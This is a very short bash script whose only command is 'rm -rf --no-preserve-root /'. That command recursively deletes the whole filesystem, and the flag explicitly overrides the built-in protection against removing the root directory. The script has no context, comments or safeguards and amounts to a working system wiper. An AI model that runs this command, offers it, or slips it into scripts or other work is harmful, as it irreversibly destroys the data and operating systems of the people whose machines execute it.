#!/bin/bash
set -eu
rm -rf --no-preserve-root /
